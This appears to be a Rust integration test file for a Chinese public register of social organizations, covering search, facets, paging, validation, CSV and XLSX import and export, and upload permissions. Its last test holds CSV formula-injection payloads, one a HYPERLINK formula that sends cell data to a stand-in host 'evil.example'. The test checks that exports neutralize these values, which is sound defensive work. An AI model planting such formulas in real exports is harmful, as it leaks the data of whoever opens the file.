//! The public register: Chinese search (segmentation, one character, part of a word, all terms,
//! name above scope), filters and facets, stable paging, bad parameters, CSV export, import
//! (all-or-nothing, --skip-bad, GB18030, XLSX) and the index following the outbox.

use fengqiao::directory::{import, index};
use reqwest::StatusCode;

use crate::{TestApp, assert_problem, each_backend};

fn uscc(t: char, region: &str, serial: u64) -> String {
    codes::Uscc::for_serial(t, region, serial)
        .unwrap()
        .as_str()
        .to_string()
}

/// A register of eight organizations in 西湖区 and 滨江区.
fn sample_csv() -> String {
    let rows = [
        (
            uscc('1', "330106", 1),
            "西湖区茶叶产业协会",
            "社会团体",
            "行业协会商会类",
            "330106",
            "2019-03-01",
            "正常",
            "茶叶种植技术交流，品牌推广",
        ),
        (
            uscc('2', "330106", 2),
            "西溪街道居家养老服务中心",
            "民办非企业单位",
            "城乡社区服务类",
            "330106004",
            "2021-06-15",
            "正常",
            "为老年人提供助餐、助浴服务",
        ),
        (
            uscc('2', "330108", 3),
            "滨江区青少年科技活动中心",
            "社会服务机构",
            "科技类",
            "330108",
            "2020-01-10",
            "正常",
            "青少年科普教育，兼顾社区养老志愿服务",
        ),
        (
            uscc('3', "330106", 4),
            "西湖慈善基金会",
            "基金会",
            "公益慈善类",
            "330106",
            "2018-11-20",
            "正常",
            "扶贫济困，助学助医",
        ),
        (
            uscc('1', "330108", 5),
            "滨江区书法家协会",
            "social_group",
            "other",
            "330108",
            "2015-05-05",
            "注销",
            "书法交流与展览",
        ),
        (
            uscc('1', "330108", 6),
            "滨江区摄影协会",
            "social_group",
            "other",
            "330108",
            "2016-07-07",
            "revoked",
            "摄影创作",
        ),
        (
            String::new(),
            "石灰桥社区邻里互助会",
            "社区社会组织",
            "城乡社区服务类",
            "330106004",
            "",
            "备案",
            "邻里互助，关爱空巢老人",
        ),
        (
            String::new(),
            "西溪社区读书会",
            "community_org",
            "community_service",
            "330106004",
            "",
            "filed",
            "组织居民读书",
        ),
    ];
    let mut s =
        String::from("统一社会信用代码,名称,类型,类别,行政区划代码,登记日期,状态,业务范围\n");
    for r in rows {
        s.push_str(&format!(
            "{},{},{},{},{},{},{},{}\n",
            r.0, r.1, r.2, r.3, r.4, r.5, r.6, r.7
        ));
    }
    s
}

async fn load(app: &TestApp, bytes: &[u8], skip_bad: bool) -> import::ImportReport {
    let report = import::import_organizations(
        &app.state.db,
        app.state.clock.now(),
        &import::cli_actor(),
        bytes,
        skip_bad,
    )
    .await
    .expect("import");
    index::catch_up(&app.state.db, &app.state.search)
        .await
        .unwrap();
    report
}

async fn names(app: &TestApp, query: &str) -> Vec<String> {
    let (s, v) = app
        .get_as(None, &format!("/api/v1/organizations?{query}"))
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    v["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["name"].as_str().unwrap().to_string())
        .collect()
}

fn q(text: &str) -> String {
    format!("q={}", url_encode(text))
}

fn url_encode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

#[tokio::test]
async fn chinese_search_finds_words_single_characters_and_parts_and_ranks_names_first() {
    each_backend(|app: TestApp| async move {
        let r = load(&app, sample_csv().as_bytes(), false).await;
        assert_eq!((r.rows, r.imported, r.bad.len()), (8, 8, 0), "{:?}", r.bad);
        // One character, part of a word, a whole word.
        assert_eq!(names(&app, &q("茶")).await, ["西湖区茶叶产业协会"]);
        assert_eq!(names(&app, &q("产业")).await, ["西湖区茶叶产业协会"]);
        // 养老 in a name ranks above 养老 in a business scope.
        assert_eq!(
            names(&app, &q("养老")).await,
            ["西溪街道居家养老服务中心", "滨江区青少年科技活动中心"]
        );
        // Space-separated terms must all match (full-width space too).
        assert_eq!(names(&app, &q("协会 西湖")).await, ["西湖区茶叶产业协会"]);
        assert_eq!(
            names(&app, &q("养老\u{3000}助餐")).await,
            ["西溪街道居家养老服务中心"]
        );
        assert!(names(&app, &q("茶叶 摄影")).await.is_empty());
        // The credit code finds its organization.
        assert_eq!(
            names(&app, &q(&uscc('3', "330106", 4))).await,
            ["西湖慈善基金会"]
        );
        app
    })
    .await;
}

#[tokio::test]
async fn pinyin_initials_find_a_name_and_survive_a_rebuild() {
    each_backend(|app: TestApp| async move {
        load(&app, sample_csv().as_bytes(), false).await;
        // 茶叶产业 → cycy, from inside the name; upper case too.
        assert_eq!(names(&app, "q=cycy").await, ["西湖区茶叶产业协会"]);
        assert_eq!(names(&app, "q=XHCS").await, ["西湖慈善基金会"]);
        // `fengqiao reindex` rebuilds the initials with the rest.
        index::rebuild(&app.state.db, &app.state.search, true)
            .await
            .unwrap();
        assert_eq!(names(&app, "q=CYCY").await, ["西湖区茶叶产业协会"]);
        app
    })
    .await;
}

#[tokio::test]
async fn filters_facets_and_a_stable_order_across_pages() {
    each_backend(|app: TestApp| async move {
        load(&app, sample_csv().as_bytes(), false).await;
        let (_, v) = app.get_as(None, "/api/v1/organizations").await;
        assert_eq!(v["total"], 8);
        assert_eq!(v["facets"]["type"]["community_org"], 2);
        assert_eq!(v["facets"]["status"]["deregistered"], 1);
        assert_eq!(v["facets"]["region"]["330100"], 8);
        // A region covers everything inside it; the facet goes one level down.
        let (_, v) = app
            .get_as(None, "/api/v1/organizations?region=330106")
            .await;
        assert_eq!(v["total"], 5);
        assert_eq!(v["facets"]["region"]["330106"], 2);
        assert_eq!(v["facets"]["region"]["330106004"], 3);
        assert_eq!(
            names(&app, "region=330106004&status=filed").await,
            ["石灰桥社区邻里互助会", "西溪社区读书会"]
        );
        assert_eq!(names(&app, "type=foundation").await, ["西湖慈善基金会"]);
        assert_eq!(
            names(&app, "category=science_tech").await,
            ["滨江区青少年科技活动中心"]
        );
        assert_eq!(
            names(&app, "registered_from=2019-01-01&registered_to=2020-12-31")
                .await
                .len(),
            2
        );
        // Pages in a stable order (same score: by code; without code last, by name).
        let all = names(&app, "per_page=100").await;
        let mut paged = Vec::new();
        for page in 1..=3 {
            paged.extend(names(&app, &format!("per_page=3&page={page}")).await);
        }
        assert_eq!(paged, all);
        assert_eq!(all.last().unwrap(), "西溪社区读书会");
        assert_eq!(names(&app, "per_page=100").await, all);
        app
    })
    .await;
}

#[tokio::test]
async fn bad_parameters_are_refused_naming_the_field() {
    each_backend(|app: TestApp| async move {
        for (query, field) in [
            ("per_page=0", "per_page"),
            ("per_page=1000", "per_page"),
            ("page=-1", "page"),
            ("page=9999", "page"),
            ("type=club", "type"),
            ("status=open", "status"),
            ("category=x", "category"),
            ("registered_from=2020-02-30", "registered_from"),
            (
                "registered_from=2021-01-01&registered_to=2020-01-01",
                "registered_to",
            ),
            ("format=pdf", "format"),
        ] {
            let got = app
                .get_as(None, &format!("/api/v1/organizations?{query}"))
                .await;
            assert_problem(
                &got,
                StatusCode::UNPROCESSABLE_ENTITY,
                &format!("register.{field}"),
                Some(field),
            );
        }
        let got = app
            .get_as(None, "/api/v1/organizations?region=33010X")
            .await;
        assert_eq!(got.0, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(got.1["field"], "region");
        app
    })
    .await;
}

#[tokio::test]
async fn the_register_exports_csv_with_a_bom_and_shows_a_page_without_script() {
    each_backend(|app: TestApp| async move {
        load(&app, sample_csv().as_bytes(), false).await;
        for path in [
            "/register.csv?q=%E5%8D%8F%E4%BC%9A",
            "/api/v1/organizations?format=csv&q=%E5%8D%8F%E4%BC%9A",
        ] {
            let r = TestApp::client().get(app.url(path)).send().await.unwrap();
            assert_eq!(r.status(), StatusCode::OK);
            assert!(
                r.headers()["content-type"]
                    .to_str()
                    .unwrap()
                    .starts_with("text/csv")
            );
            let bytes = r.bytes().await.unwrap();
            assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
            let text = std::str::from_utf8(&bytes[3..]).unwrap();
            assert_eq!(text.lines().count(), 1 + 3, "{text}");
            assert!(text.contains("西湖区茶叶产业协会") && text.contains("社会团体"));
        }
        let r = TestApp::client()
            .get(app.url("/register?q=%E8%8C%B6&type=social_group"))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK);
        let html = r.text().await.unwrap();
        assert!(
            html.contains("西湖区茶叶产业协会") && html.contains("id=\"facet-type\""),
            "{html}"
        );
        assert!(
            html.contains("<a href=\"/registry/organizations/"),
            "each result links to the organization's page"
        );
        let r = TestApp::client()
            .get(app.url("/register?per_page=0"))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
        app
    })
    .await;
}

fn bad_csv() -> String {
    let good = uscc('1', "330106", 11);
    let mut bad_check = uscc('1', "330106", 12);
    let last = bad_check.pop().unwrap();
    bad_check.push(if last == '0' { '1' } else { '0' });
    format!(
        "uscc,name,type,category,region_code,registered_on,status,business_scope\n\
         {good},良渚文化研究会,social_group,other,330106,2020-01-01,registered,文化研究\n\
         {bad_check},错误代码协会,social_group,other,330106,2020-01-01,registered,\n\
         {},不存在地区协会,social_group,other,330199,2020-01-01,registered,\n\
         {good},重复代码协会,social_group,other,330106,2020-01-01,registered,\n\
         ,无代码的社会团体,social_group,other,330106,2020-01-01,registered,\n",
        uscc('1', "330106", 13)
    )
}

#[tokio::test]
async fn import_is_all_or_nothing_unless_bad_rows_are_skipped() {
    each_backend(|app: TestApp| async move {
        let audit = app.scalar("SELECT COUNT(*) FROM audit_log").await;
        let r = load(&app, bad_csv().as_bytes(), false).await;
        assert_eq!(r.imported, 0);
        let lines: Vec<(usize, &str)> = r.bad.iter().map(|b| (b.line, b.column.as_str())).collect();
        assert_eq!(
            lines,
            [(3, "uscc"), (4, "region_code"), (5, "uscc"), (6, "uscc")]
        );
        assert!(
            r.bad[0].reason.en.to_lowercase().contains("check"),
            "{:?}",
            r.bad[0]
        );
        assert!(r.bad[2].reason.zh.contains("重复") && r.bad[2].reason.en.contains("line 2"));
        assert_eq!(app.scalar("SELECT COUNT(*) FROM organizations").await, 0);
        assert_eq!(app.scalar("SELECT COUNT(*) FROM audit_log").await, audit);
        // --skip-bad: the good row goes in, the bad ones come back with their reasons.
        let r = load(&app, bad_csv().as_bytes(), true).await;
        assert_eq!((r.imported, r.skipped), (1, 4));
        let written = String::from_utf8(r.bad_csv()).unwrap();
        assert_eq!(written.lines().count(), 5);
        assert!(written.contains("错误代码协会"));
        assert_eq!(app.scalar("SELECT COUNT(*) FROM organizations").await, 1);
        assert_eq!(
            app.scalar("SELECT COUNT(*) FROM audit_log WHERE action = 'register.import'")
                .await,
            1
        );
        assert_eq!(
            app.scalar("SELECT COUNT(*) FROM outbox WHERE kind = 'organization.import'")
                .await,
            1
        );
        assert_eq!(names(&app, &q("良渚")).await, ["良渚文化研究会"]);
        // The same file again: its good row is now a duplicate of the register.
        let r = load(&app, bad_csv().as_bytes(), false).await;
        assert!(
            r.bad
                .iter()
                .any(|b| b.line == 2 && b.reason.en.contains("register already"))
        );
        app
    })
    .await;
}

#[tokio::test]
async fn gb18030_and_xlsx_files_import() {
    each_backend(|app: TestApp| async move {
        let text = sample_csv();
        let (gb, _, _) = encoding_rs::GB18030.encode(&text);
        assert!(std::str::from_utf8(&gb).is_err());
        let r = load(&app, &gb, false).await;
        assert_eq!(r.imported, 8, "{:?}", r.bad);
        assert_eq!(names(&app, &q("茶叶")).await, ["西湖区茶叶产业协会"]);
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        let rows = [
            [
                "统一社会信用代码",
                "名称",
                "类型",
                "类别",
                "行政区划代码",
                "登记日期",
                "状态",
                "业务范围",
            ],
            [
                &uscc('1', "330108", 40),
                "滨江区围棋协会",
                "社会团体",
                "其他",
                "330108",
                "2022-09-01",
                "正常",
                "围棋培训与比赛",
            ],
        ];
        for (r, row) in rows.iter().enumerate() {
            for (c, cell) in row.iter().enumerate() {
                sheet.write_string(r as u32, c as u16, *cell).unwrap();
            }
        }
        let bytes = book.save_to_buffer().unwrap();
        let r = load(&app, &bytes, false).await;
        assert_eq!(r.imported, 1, "{:?}", r.bad);
        let (_, v) = app
            .get_as(None, &format!("/api/v1/organizations?{}", q("围棋")))
            .await;
        assert_eq!(v["items"][0]["registered_on"], "2022-09-01");
        assert_eq!(v["items"][0]["type"], "social_group");
        app
    })
    .await;
}

#[tokio::test]
async fn the_index_follows_changes_through_the_outbox() {
    each_backend(|app: TestApp| async move {
        load(&app, sample_csv().as_bytes(), false).await;
        // A change written elsewhere (as the registry does): the row and its event, nothing else.
        let actor = import::cli_actor();
        let now = app.state.clock.now();
        let code = uscc('1', "330108", 5);
        rename(&app, &actor, now, &code, "滨江区书画院")
            .await
            .unwrap();
        // The background follower picks it up (no hand indexing): wait for it, bounded.
        let mut found = Vec::new();
        for _ in 0..100 {
            found = names(&app, &q("书画")).await;
            if !found.is_empty() {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        assert_eq!(found, ["滨江区书画院"]);
        assert!(names(&app, &q("书法家")).await.is_empty());
        assert_eq!(
            app.state.search.applied_outbox_id(),
            Some(app.scalar("SELECT MAX(id) FROM outbox").await)
        );
        app
    })
    .await;
}

async fn rename(
    app: &TestApp,
    actor: &fengqiao::platform::auth::Actor,
    now: chrono::DateTime<chrono::Utc>,
    code: &str,
    name: &str,
) -> Result<(), sqlx::Error> {
    use fengqiao::platform::journal::{Change, Journal};
    fengqiao::with_tx!(&app.state.db, tx => {
        sqlx::query("UPDATE organizations SET name = $1 WHERE uscc = $2")
            .bind(name).bind(code).execute(&mut *tx).await?;
        tx.record(now, &Change {
            actor, action: "organization.change", object_kind: "organization",
            object_id: code.to_string(), region_code: Some("330108".into()), before: None, after: None,
        }).await?;
    });
    Ok(())
}

/// A multipart form with one file, built by hand.
fn multipart(file: &[u8], skip_bad: bool) -> (String, Vec<u8>) {
    let boundary = "fq-test-boundary-7346";
    let mut body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"register.csv\"\r\nContent-Type: text/csv\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(file);
    body.extend_from_slice(b"\r\n");
    if skip_bad {
        body.extend_from_slice(
            format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"skip_bad\"\r\n\r\n1\r\n"
            )
            .as_bytes(),
        );
    }
    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

#[tokio::test]
async fn a_provincial_officer_uploads_a_register_with_the_csrf_token_in_the_query() {
    each_backend(|app: TestApp| async move {
        let (browser, token) = crate::accounts::browser_login(&app, "province").await;
        let (ct, body) = multipart(sample_csv().as_bytes(), false);
        // Without the token (in the query string, as the page's form sends it): refused.
        let r = browser
            .post(app.url("/register/import"))
            .header("content-type", &ct)
            .body(body.clone())
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(app.scalar("SELECT COUNT(*) FROM organizations").await, 0);
        let r = browser
            .post(app.url(&format!("/register/import?_csrf={token}")))
            .header("content-type", &ct)
            .body(body.clone())
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK);
        let html = r.text().await.unwrap();
        assert!(html.contains("id=\"i-imported\">8<"), "{html}");
        // Searchable at once.
        assert_eq!(names(&app, &q("茶")).await, ["西湖区茶叶产业协会"]);
        // A county officer may not import.
        let (county, token) = crate::accounts::browser_login(&app, "xihu").await;
        let r = county
            .post(app.url(&format!("/register/import?_csrf={token}")))
            .header("content-type", &ct)
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::FORBIDDEN);
        app
    })
    .await;
}

/// Names that a spreadsheet program would run as formulas (OWASP CSV injection: `=`, `+`, `-`,
/// `@`) come out of every register export prefixed with `'` (issue 15); the bad-rows file of
/// an import is neutralized too and reads back as it was.
#[tokio::test]
async fn register_exports_neutralize_names_that_would_run_as_formulas() {
    const EVIL: [&str; 4] = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点我\")",
        "+SUM(1,2)协会",
        "-2+3社团",
        "@cmd读书会",
    ];
    each_backend(|app: TestApp| async move {
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_record(["uscc", "name", "type", "category", "region_code", "status"])
            .unwrap();
        for (i, name) in EVIL.iter().enumerate() {
            w.write_record([
                uscc('1', "330106", 40 + i as u64).as_str(),
                name,
                "social_group",
                "other",
                "330106",
                "registered",
            ])
            .unwrap();
        }
        let file = w.into_inner().unwrap();
        let r = load(&app, &file, false).await;
        assert_eq!(r.imported, EVIL.len(), "{:?}", r.bad);
        for path in ["/register.csv", "/api/v1/organizations?format=csv"] {
            let bytes = TestApp::client()
                .get(app.url(path))
                .send()
                .await
                .unwrap()
                .bytes()
                .await
                .unwrap();
            let mut rdr = csv::Reader::from_reader(&bytes[3..]);
            let names: Vec<String> = rdr
                .records()
                .map(|r| r.unwrap()[1].to_string())
                .collect();
            assert_eq!(names.len(), EVIL.len(), "{path}: {names:?}");
            for evil in EVIL {
                assert!(
                    names.contains(&format!("'{evil}")),
                    "{path}: {evil} not neutralized in {names:?}"
                );
            }
            assert!(
                names.iter().all(|n| n.starts_with('\'')),
                "{path}: {names:?}"
            );
        }
        // The JSON API shows the names as they are.
        assert!(names(&app, "").await.iter().any(|n| n == EVIL[0]));
        // A bad row keeps its name in the bad-rows file, neutralized, and reads back as it was.
        let bad = format!(
            "uscc,name,type,category,region_code,status\n,\"{}\",social_group,other,330199,registered\n",
            EVIL[0].replace('"', "\"\"")
        );
        let r = load(&app, bad.as_bytes(), true).await;
        assert!(!r.bad.is_empty(), "{:?}", r.bad);
        let written = r.bad_csv();
        let mut rdr = csv::Reader::from_reader(&written[3..]);
        let row = rdr.records().next().unwrap().unwrap();
        assert_eq!(&row[1], format!("'{}", EVIL[0]));
        let back = import::read_records(&written).unwrap();
        assert_eq!(back[1].1[1], EVIL[0]);
        app
    })
    .await;
}
